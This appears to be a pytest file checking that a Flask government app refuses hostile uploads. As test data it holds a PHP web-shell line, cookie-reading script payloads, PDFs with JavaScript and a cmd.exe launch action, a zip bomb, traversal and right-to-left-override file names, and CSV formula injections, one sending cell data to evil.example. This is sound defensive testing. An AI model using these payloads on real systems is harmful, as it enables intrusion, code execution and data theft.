"""Attack files against the uploads: the scanned decree PDF (new and edit decree), the decree
import (CSV/XLSX) and the evidence vault (what test_evidence.py's corpus does not already try:
polyglots, double extensions, direction and NUL characters in names, content-type lies, one byte
over the cap; the self-assessment's uploads go through the same vault checks, test_uploads.py).
Each is refused with an Indonesian message and leaves the database and the file store exactly as
they were (or, for a genuine file under a hostile name, is stored under a random key and a clean
name); never a 500. The field names are read from the forms."""

from __future__ import annotations

import html
import io
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.datastructures import FileStorage
from werkzeug.test import stream_encode_multipart

from puja_indah.agencies import importer, services
from puja_indah.agencies.models import Decree
from puja_indah.core.models import Agency
from puja_indah.core.tenancy import Scope, scoped
from puja_indah.evidence.models import EvidenceFile
from puja_indah.extensions import db
from tests.conftest import Demo
from tests.tenancy.datawatch import fingerprint

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"

NOT_PDF = "Berkas ini bukan dokumen PDF"
DAMAGED = "Berkas PDF tidak lengkap atau rusak."
EMPTY = "Berkas kosong."
SCRIPTS = "Berkas PDF yang berisi skrip atau program tertanam tidak diterima."
TOO_BIG = "Ukuran berkas lebih dari 10 MB."


@pytest.fixture(autouse=True)
def storage_root(app: Flask, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "store" / "files"
    monkeypatch.setitem(app.config, "STORAGE_ROOT", str(root))
    return root


def _listing(root: Path) -> list[str]:
    """Every file around the store (its parent too: a traversal would land beside it)."""
    base = root.parent
    return sorted(str(p.relative_to(base)) for p in base.rglob("*")) if base.exists() else []


class _FileInputs(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.names: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        if tag == "input" and a.get("type") == "file" and a.get("name"):
            self.names.append(str(a["name"]))


def _file_field(client: FlaskClient, url: str) -> str:
    page = client.get(url)
    assert page.status_code == 200
    parser = _FileInputs()
    parser.feed(page.get_data(as_text=True))
    assert len(parser.names) == 1, f"expected one file input on {url}: {parser.names}"
    return parser.names[0]


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _post_file(
    client: FlaskClient, url: str, fields: dict[str, Any], name: str, content: bytes, filename: str
) -> Any:
    """Multipart encoded in memory (the test client would spool a large body to a temp file)."""
    upload = FileStorage(io.BytesIO(content), filename=filename, content_type="application/pdf")
    stream, length, boundary = stream_encode_multipart({**fields, name: upload}, use_tempfile=False)
    return client.post(
        url,
        input_stream=stream,
        content_length=length,
        content_type=f'multipart/form-data; boundary="{boundary}"',
    )


def _decree_row(app: Flask, decree_id: int) -> dict[str, Any]:
    with app.app_context(), scoped(Scope.system("test: read decree"), db.session):
        decree = db.session.get(Decree, decree_id)
        assert decree is not None
        values = {c.key: getattr(decree, c.key) for c in sa.inspect(Decree).column_attrs}
        db.session.remove()
    return values


# --- the decree PDF ------------------------------------------------------------------------------

PDF_ATTACKS = [
    pytest.param(b"<?php system($_GET['c']); ?>\n", "shell.pdf", NOT_PDF, id="php-renamed-pdf"),
    pytest.param(HTML, "sk.pdf", NOT_PDF, id="html-renamed-pdf"),
    pytest.param(
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(1)</script></svg>",
        "sk.pdf",
        NOT_PDF,
        id="svg-with-script",
    ),
    pytest.param(_zip({"sk.pdf": PDF, "run.exe": b"MZ" * 100}), "sk.pdf", NOT_PDF, id="zip"),
    pytest.param(PDF[: PDF.index(b"%%EOF")], "sk.pdf", DAMAGED, id="truncated-pdf"),
    pytest.param(b"%PDF-1.7\n" + b"0" * 5000, "sk.pdf", DAMAGED, id="header-only"),
    pytest.param(b"", "sk.pdf", EMPTY, id="zero-bytes"),
    pytest.param(HTML, "../../etc/passwd.pdf", NOT_PDF, id="traversal-name"),
    pytest.param(b"<?php echo 1; ?>", "sk\x00.php.pdf", NOT_PDF, id="nul-in-name"),
    pytest.param(
        PDF.replace(
            b"<< /Type /Catalog >>",
            b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        ),
        "sk.pdf",
        SCRIPTS,
        id="pdf-with-javascript",
    ),
    pytest.param(
        PDF.replace(b"<< /Type /Catalog >>", b"<< /Type /Catalog /OpenAction 2 0 R >>").replace(
            b"trailer", b"2 0 obj << /S /Launch /F (cmd.exe) >> endobj\ntrailer"
        ),
        "sk.pdf",
        SCRIPTS,
        id="pdf-with-launch-action",
    ),
    pytest.param(
        PDF.replace(
            b"<< /Type /Catalog >>",
            b"<< /Type /Catalog /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >>",
        ),
        "sk.pdf",
        SCRIPTS,
        id="pdf-with-hex-escaped-javascript-name",
    ),
    pytest.param(
        PDF.replace(
            b"trailer",
            b"3 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
            + zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>")
            + b"\nendstream endobj\ntrailer",
        ),
        "sk.pdf",
        SCRIPTS,
        id="pdf-with-javascript-in-compressed-object-stream",
    ),
    pytest.param(
        PDF.replace(
            b"<< /Type /Catalog >>",
            b"<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>",
        ),
        "sk.pdf",
        SCRIPTS,
        id="pdf-with-embedded-file",
    ),
]


@pytest.mark.parametrize(("content", "filename", "message"), PDF_ATTACKS)
@pytest.mark.parametrize("screen", ["new", "edit"])
def test_decree_pdf_attack_is_refused_and_nothing_is_stored(
    app: Flask,
    login: Callable[[str], FlaskClient],
    demo: Demo,
    storage_root: Path,
    screen: str,
    content: bytes,
    filename: str,
    message: str,
) -> None:
    monitor = login("monitor")
    decree_id = demo.decrees["193 Tahun 2018"]
    url = "/sk/baru" if screen == "new" else f"/sk/{decree_id}/ubah"
    field = _file_field(monitor, url)
    decree_before, files_before, data_before = (
        _decree_row(app, decree_id),
        _listing(storage_root),
        fingerprint(app),
    )
    fields = {"number": "12 Tahun 2024", "title": "Tim Inovasi Daerah", "signed_on": ""}
    response = _post_file(monitor, url, fields, field, content, filename)
    body = response.get_data(as_text=True)
    assert response.status_code == 200, body[:500]
    assert message in body
    assert fingerprint(app) == data_before
    assert _decree_row(app, decree_id) == decree_before
    assert _listing(storage_root) == files_before


def test_decree_pdf_just_over_the_cap_is_refused(
    app: Flask, login: Callable[[str], FlaskClient], storage_root: Path
) -> None:
    monitor = login("monitor")
    field = _file_field(monitor, "/sk/baru")
    filler = services.MAX_PDF_BYTES + 1 - len(b"%PDF-1.4\n") - len(b"\n%%EOF\n")
    content = b"%PDF-1.4\n" + b"0" * filler + b"\n%%EOF\n"
    assert len(content) == services.MAX_PDF_BYTES + 1
    data_before, files_before = fingerprint(app), _listing(storage_root)
    fields = {"number": "12 Tahun 2024", "title": "Tim Inovasi Daerah", "signed_on": ""}
    response = _post_file(monitor, "/sk/baru", fields, field, content, "sk.pdf")
    assert response.status_code == 200
    assert TOO_BIG in response.get_data(as_text=True)
    assert fingerprint(app) == data_before
    assert _listing(storage_root) == files_before


def test_the_uploaded_file_name_is_never_used_as_a_path(
    app: Flask, login: Callable[[str], FlaskClient], demo: Demo, storage_root: Path
) -> None:
    """A genuine PDF under a hostile name is accepted, but stored only under a random key."""
    monitor = login("monitor")
    decree_id = demo.decrees["193 Tahun 2018"]
    url = f"/sk/{decree_id}/ubah"
    field = _file_field(monitor, url)
    fields = {"number": "193 Tahun 2018", "title": "Tim Inovasi Daerah", "signed_on": ""}
    response = _post_file(monitor, url, fields, field, PDF, "../../../etc/passwd.pdf")
    assert response.status_code == 302
    stored = [p for p in storage_root.parent.rglob("*") if p.is_file()]
    assert len(stored) == 1
    key = _decree_row(app, decree_id)["pdf_key"]
    assert stored[0] == storage_root / "decrees" / key[:2] / key
    assert stored[0].read_bytes() == PDF
    assert "passwd" not in str(stored[0])


# --- the decree import ---------------------------------------------------------------------------

HEADER = "kode_opd,nama_opd,singkatan,induk,inovasi,deskripsi,wajib_laksana,wajib_replikasi"
SAMPLE_ROW = "BKD,Badan Kepegawaian Daerah,BKD,,SIAP,Layanan kepegawaian,ya,ya"


def _xlsx(rows: list[list[Any]]) -> bytes:
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet()
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _bomb() -> bytes:
    """A small zip (starts like an XLSX) that unpacks to more than the importer allows."""
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "xl/worksheets/sheet1.xml": b"\0" * (importer.MAX_XLSX_UNPACKED + 1024),
        }
    )


IMPORT_ATTACKS = [
    pytest.param(
        bytes(range(256)) * 40, "sk.csv", "Berkas ini bukan CSV maupun XLSX.", id="binary"
    ),
    pytest.param(b"\x89PNG\r\n\x1a\n" + b"\xff" * 3000, "sk.csv", "bukan teks UTF-8", id="png"),
    pytest.param(
        ("\ufeff" + HEADER + "\n" + SAMPLE_ROW + "\n").encode("utf-16-le"),
        "sk.csv",
        "Berkas ini bukan CSV maupun XLSX.",
        id="utf16-with-bom",
    ),
    pytest.param(
        (HEADER + "\nDISDIK,Dinas Pendidikan dan Kebudayaan é,,,,,ya,ya\n").encode("latin-1"),
        "sk.csv",
        "bukan teks UTF-8",
        id="latin1",
    ),
    pytest.param(
        (",".join(f"kolom{i}" for i in range(10_000)) + "\n" + "x," * 9_999 + "x\n").encode(),
        "sk.csv",
        "Kolom tidak dikenal.",
        id="csv-10000-columns",
    ),
    pytest.param(
        (HEADER + "\n" + SAMPLE_ROW + "," + ",".join(["x"] * 10_000) + "\n").encode(),
        "sk.csv",
        "Baris ini berisi lebih banyak nilai",
        id="csv-row-with-10000-values",
    ),
    pytest.param(
        _xlsx(
            [HEADER.split(",")]
            + [
                [f"K{i}", f"Dinas {i}", "", "", "", "", "ya", "ya"]
                for i in range(importer.MAX_ROWS + 5)
            ]
        ),
        "sk.xlsx",
        f"Berkas berisi lebih dari {importer.MAX_ROWS} baris.",
        id="xlsx-too-many-rows",
    ),
    pytest.param(_bomb(), "sk.xlsx", "Buku kerja terlalu besar setelah dibuka.", id="zip-bomb"),
    pytest.param(
        b"PK\x03\x04" + b"\x00" * 2000, "sk.xlsx", "bukan buku kerja XLSX", id="broken-zip"
    ),
    pytest.param(
        _zip({"hello.txt": b"not a workbook"}), "sk.xlsx", "bukan buku kerja XLSX", id="zip-no-xlsx"
    ),
    pytest.param(
        _xlsx([HEADER.split(","), ["FORMULA1", "=1+1", "", "", "", "", "ya", "ya"]]),
        "sk.xlsx",
        "Isi nama OPD.",
        id="xlsx-formula-cell-is-not-evaluated",
    ),
    pytest.param(
        (HEADER + "\n" + "\n" * 5000 + "NUL1,Dinas a\x00b,,,,,ya,ya\n").encode(),
        "sk.csv",
        "Berkas ini bukan CSV maupun XLSX.",
        id="csv-with-nul-after-4kb",
    ),
    pytest.param(
        (HEADER + '\nK1,"unclosed quote\n').encode() + b"x" * 100,
        "sk.csv",
        "Baris ini tidak dapat dibaca",
        id="csv-broken-quoting",
    ),
]


@pytest.mark.parametrize(("content", "filename", "message"), IMPORT_ATTACKS)
def test_decree_import_attack_is_refused_with_a_message(
    app: Flask,
    login: Callable[[str], FlaskClient],
    demo: Demo,
    storage_root: Path,
    content: bytes,
    filename: str,
    message: str,
) -> None:
    monitor = login("monitor")
    url = f"/sk/{demo.decrees['193 Tahun 2018']}/impor"
    field = _file_field(monitor, url)
    data_before, files_before = fingerprint(app), _listing(storage_root)
    response = _post_file(monitor, url, {}, field, content, filename)
    body = response.get_data(as_text=True)
    assert response.status_code == 200, body[:500]
    assert message in body
    assert fingerprint(app) == data_before
    assert _listing(storage_root) == files_before


def test_a_formula_in_a_csv_import_is_kept_as_plain_text(
    app: Flask, login: Callable[[str], FlaskClient], demo: Demo
) -> None:
    """A cell like =CMD(...) is data: stored exactly as written and shown escaped, never run."""
    monitor = login("monitor")
    decree_id = demo.decrees["193 Tahun 2018"]
    url = f"/sk/{decree_id}/impor"
    field = _file_field(monitor, url)
    formula = "=CMD|' /C calc'!A0"
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    csv_text = (
        f"{HEADER}\n"
        f'FORMULA1,"{formula}",,,"{hyperlink.replace(chr(34), chr(34) * 2)}",'
        "\"@SUM(1+1)*cmd|' /C calc'!A0\",ya,ya\n"
    )
    response = _post_file(monitor, url, {}, field, csv_text.encode(), "sk.csv")
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    with app.app_context(), scoped(Scope.system("test: read agency"), db.session):
        agency = db.session.scalar(sa.select(Agency).where(Agency.code == "FORMULA1"))
        assert agency is not None
        assert agency.name == formula
        db.session.remove()
    page = monitor.get(f"/sk/{decree_id}").get_data(as_text=True)
    assert "=CMD|&#39; /C calc&#39;!A0" in page or "=CMD|&#x27; /C calc&#x27;!A0" in page
    assert hyperlink not in page  # the quotes are escaped in the HTML


# --- the evidence vault: what the evidence tests' corpus (test_evidence.py) does not try ---------

EVIDENCE_FIELDS = {
    "title": "Bukti serangan",
    "document_number": "800/1/2025",
    "document_date": "2025-03-01",
    "subject": "Uji berkas",
    "link_url": "",
}
EVIDENCE_SCRIPTS = "Berkas PDF yang berisi skrip atau program tertanam tidak diterima."


@pytest.fixture
def bkd_innovation(app: Flask, demo: Demo) -> int:
    from tests.integration.test_evidence import make_innovation

    return make_innovation(app, demo.agency("BKD"))


def _evidence_upload(
    client: FlaskClient, innovation: int, content: bytes, filename: str, content_type: str
) -> Any:
    upload = FileStorage(io.BytesIO(content), filename=filename, content_type=content_type)
    stream, length, boundary = stream_encode_multipart(
        {**EVIDENCE_FIELDS, "file": upload}, use_tempfile=False
    )
    return client.post(
        f"/innovations/{innovation}/evidence/new",
        input_stream=stream,
        content_length=length,
        content_type=f'multipart/form-data; boundary="{boundary}"',
    )


EVIDENCE_ATTACKS = [
    pytest.param(
        PDF.replace(b"%%EOF", b"<html><body><script>alert(document.cookie)</script>\n%%EOF"),
        "bukti.pdf",
        "application/pdf",
        EVIDENCE_SCRIPTS,
        id="polyglot-pdf-with-html",
    ),
    pytest.param(HTML + b"\n" + PDF, "bukti.pdf", "application/pdf", "halaman web", id="html-pdf"),
    pytest.param(PDF, "bukti.pdf.php", "application/pdf", "berakhiran “.php”", id="double-ext"),
    pytest.param(
        b"<?php system($_GET['c']); ?>", "shell.php.pdf", "application/pdf", "skrip", id="php.pdf"
    ),
    pytest.param(
        PDF, "bukti\u202efdp.exe", "application/pdf", "berakhiran “.exe”", id="rtl-exe-name"
    ),
    pytest.param(
        HTML, "bukti.pdf", "application/pdf", "halaman web", id="html-claiming-application-pdf"
    ),
    pytest.param(
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "gambar.png",
        "image/png",
        "gambar SVG",
        id="svg-onload-claiming-image-png",
    ),
]


@pytest.mark.parametrize(("content", "filename", "content_type", "message"), EVIDENCE_ATTACKS)
def test_evidence_attack_is_refused_and_nothing_is_stored(
    app: Flask,
    login: Callable[[str], FlaskClient],
    bkd_innovation: int,
    storage_root: Path,
    content: bytes,
    filename: str,
    content_type: str,
    message: str,
) -> None:
    officer = login("officer.bkd")
    data_before, files_before = fingerprint(app), _listing(storage_root)
    response = _evidence_upload(officer, bkd_innovation, content, filename, content_type)
    body = html.unescape(response.get_data(as_text=True))
    assert response.status_code == 200, body[:500]
    assert message in body
    assert fingerprint(app) == data_before
    assert _listing(storage_root) == files_before


@pytest.mark.parametrize(
    "filename",
    [
        pytest.param("laporan\u202egpj.pdf", id="rtl-override"),
        pytest.param("lap\x00oran.pdf", id="nul"),
        pytest.param("..\\..\\windows\\laporan.pdf", id="windows-traversal"),
        pytest.param("\u200b\u2066laporan\u2069.pdf", id="invisible-marks"),
    ],
)
def test_a_genuine_pdf_under_a_hostile_name_is_stored_under_a_clean_name(
    app: Flask,
    login: Callable[[str], FlaskClient],
    bkd_innovation: int,
    storage_root: Path,
    filename: str,
) -> None:
    """Sent as text/html (a content-type lie): the bytes decide, and the download is a PDF
    attachment under a name free of control and direction characters, never run or shown."""
    officer = login("officer.bkd")
    response = _evidence_upload(officer, bkd_innovation, PDF, filename, "text/html")
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    with app.app_context(), scoped(Scope.system("test: read evidence"), db.session):
        (version,) = db.session.scalars(sa.select(EvidenceFile)).all()
        name, key, evidence_id = version.original_name, version.storage_key, version.evidence_id
        content_type, file_id = version.content_type, version.id
        db.session.remove()
    assert content_type == "application/pdf"
    assert not any(unicodedata.category(ch).startswith("C") for ch in name), repr(name)
    assert "/" not in name and "\\" not in name and ".." not in name
    stored = [p for p in storage_root.parent.rglob("*") if p.is_file()]
    assert stored == [storage_root / "evidence" / key[:2] / key]
    download = officer.get(f"/innovations/{bkd_innovation}/evidence/{evidence_id}/files/{file_id}")
    assert download.status_code == 200 and download.data == PDF
    assert download.mimetype == "application/pdf"
    assert download.headers["Content-Disposition"].startswith("attachment;")
    assert "\u202e" not in download.headers["Content-Disposition"]
    assert download.headers["X-Content-Type-Options"] == "nosniff"


def test_an_evidence_pdf_one_byte_over_its_cap_is_refused_and_at_the_cap_accepted(
    app: Flask,
    login: Callable[[str], FlaskClient],
    bkd_innovation: int,
    storage_root: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    cap = 1024 * 1024
    monkeypatch.setitem(app.config, "UPLOAD_MAX_BYTES", {**app.config["UPLOAD_MAX_BYTES"]})
    app.config["UPLOAD_MAX_BYTES"]["pdf"] = cap
    officer = login("officer.bkd")

    def pdf_of(size: int) -> bytes:
        body = PDF.replace(b"%%EOF", b"")
        return body + b"%" + b"0" * (size - len(body) - len(b"%\n%%EOF\n")) + b"\n%%EOF\n"

    data_before = fingerprint(app)
    over = _evidence_upload(
        officer, bkd_innovation, pdf_of(cap + 1), "besar.pdf", "application/pdf"
    )
    assert over.status_code == 200
    assert "Ukuran berkas PDF lebih dari 1 MB." in over.get_data(as_text=True)
    assert fingerprint(app) == data_before and _listing(storage_root) == []
    at_cap = _evidence_upload(officer, bkd_innovation, pdf_of(cap), "pas.pdf", "application/pdf")
    assert at_cap.status_code == 302, at_cap.get_data(as_text=True)[:500]
